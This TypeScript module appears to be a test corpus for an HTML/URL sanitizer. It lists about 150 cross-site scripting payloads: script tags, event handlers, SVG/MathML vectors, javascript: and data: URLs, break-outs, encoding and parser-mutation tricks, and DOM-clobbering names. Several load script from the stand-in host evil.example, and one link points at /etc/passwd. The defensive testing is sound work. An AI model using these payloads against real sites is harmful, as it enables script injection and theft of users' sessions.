/**
 * Texts that would run, call out or rewrite the page if any part of the site took them for more than text. Each shows itself by a
 * dialog, by `window.hit`, or by a request to evil.example. By the ways in which such things have worked elsewhere.
 */
const RUN = "window.hit=1;alert(1)";
const EVIL = "https://evil.example";

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT >`,
  `<script/x>${RUN}</script\t\n>`,
  `<script src=${EVIL}/x.js></script>`,
  `<script src="//evil.example/x.js">`,
  `<script type=module>import "${EVIL}/x.js"</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script>/*`,
  `*/${RUN}//</script>`,
  `<script\u0000>${RUN}</script>`,
  `<\u0000script>${RUN}</script>`,
  `<script type=importmap>{"imports":{"react":"${EVIL}/x.js"}}</script>`,
];

const HANDLERS = [
  `<img src=x onerror="${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x onerror\n=\n"${RUN}">`,
  `<img src=x:x onerror=&#97;lert(1)>`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video src=x onerror=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<div onpointerrawupdate=${RUN} onmouseover=${RUN}>x</div>`,
  `<b onanimationstart=${RUN} style=animation-name:x>x</b>`,
  `<p onbeforetoggle=${RUN} popover id=x>x</p><button popovertarget=x>y</button>`,
  `<a onclick=${RUN} href=#>x</a>`,
  `<form onformdata=${RUN}><button form=x>x</button></form>`,
  `<object data=x onerror=${RUN}></object>`,
];

const SVG_AND_MATH = [
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script xlink:href=${EVIL}/x.js /></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><set attributeName=href to="javascript:${RUN}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
  `<svg><image href="${EVIL}/x.png"/></svg>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<math><maction actiontype="statusline#x" xlink:href="javascript:${RUN}">x</maction></math>`,
];

const LINKS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  ` \u0001javascript:${RUN}`,
  `javascript://example.org/%0a${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `vbscript:msgbox(1)`,
  `view-source:javascript:${RUN}`,
  `blob:${EVIL}/x`,
  `filesystem:${EVIL}/x`,
  `feed:javascript:${RUN}`,
  `jar:${EVIL}!/x`,
  `//evil.example/x`,
  `\\\\evil.example\\x`,
  `file:///etc/passwd`,
];

const ANCHORS = [
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="jav&#x09;ascript:${RUN}">x</a>`,
  `<a href=" &#14; javascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href='//evil.example' ping=${EVIL} target=_top>x</a>`,
  `<area href="javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<form action=${EVIL}><input name=q></form>`,
];

const BREAK_OUTS = [
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `" autofocus onfocus="${RUN}`,
  `' autofocus onfocus='${RUN}`,
  `\` onmouseover=\`${RUN}`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</option></select><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</noscript><img src=x onerror=${RUN}>`,
  `--><script>${RUN}</script><!--`,
  `--!><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `?><script>${RUN}</script>`,
  `</xmp><script>${RUN}</script>`,
  `</template><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<!--<script>`,
  `</SCRIPT ><svg onload=${RUN}>`,
  `\\"};${RUN};//`,
  `';${RUN};'`,
  `\u2028${RUN}\u2029`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  "${" + RUN + "}",
  "`${" + RUN + "}`",
  "{{constructor.constructor('" + RUN + "')()}}",
  `{{7*7}} <%= 7*7 %> #{7*7} \${{7*7}} [[7*7]]`,
];

const ENCODINGS = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${RUN}`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&#x3C;img src=x onerror=${RUN}&#x3E;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `%253Cscript%253E${RUN}`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\u00bcscript\u00be${RUN}\u00bc/script\u00be`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `\u202e<script>${RUN}</script>`,
  `<\u200bscript>${RUN}</script>`,
  `\ufeff<script>${RUN}</script>`,
  `\u1b24(J<script>${RUN}</script>`,
  `\u017fcript <\u017fcript>${RUN}</\u017fcript>`,
];

const MUTATIONS = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg><style>&lt;img src=x onerror=${RUN}&gt;</style></svg>`,
  `<p><style><!--</style><img src=x onerror=${RUN}>--></style>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<select><template><style><!--</select><img src=x onerror=${RUN}>`,
  `<table><td background="javascript:${RUN}"><caption><img src=x onerror=${RUN}>`,
  `<b><a href="x"><b><a href="javascript:${RUN}">nested</a></b></a></b>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
];

const STYLES_AND_FRAMES = [
  `<style>@import "${EVIL}/x.css";*{background:url(${EVIL}/x)}</style>`,
  `<p style="width:expression(${RUN})">x</p>`,
  `<p style="background:url(javascript:${RUN})">x</p>`,
  `<p style="-moz-binding:url(${EVIL}/x.xml#x);behavior:url(x.htc)">x</p>`,
  `<link rel=stylesheet href=${EVIL}/x.css>`,
  `<link rel=prefetch href=${EVIL}/x>`,
  `<link rel=manifest href=${EVIL}/x>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<meta http-equiv=content-security-policy content="script-src *">`,
  `<base href=${EVIL}/>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.hit=1;alert(1)</script>"></iframe>`,
  `<iframe src=${EVIL}></iframe>`,
  `<embed src=${EVIL}/x.swf>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<img src=${EVIL}/x.png srcset="${EVIL}/y.png 2x">`,
  `<video poster=${EVIL}/x.png></video>`,
  `<portal src=${EVIL}></portal>`,
];

const NAMES = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "null",
  "undefined",
  "NaN",
  `<a id=hit name=hit href=x>x</a>`,
  `<form id=document><input name=cookie></form>`,
  `<img name=getElementById>`,
];

export const HOSTILE_LINKS: readonly string[] = LINKS;

export const HOSTILE_MARKUP: readonly string[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...SVG_AND_MATH,
  ...LINKS,
  ...ANCHORS,
  ...BREAK_OUTS,
  ...ENCODINGS,
  ...MUTATIONS,
  ...STYLES_AND_FRAMES,
  ...NAMES,
];
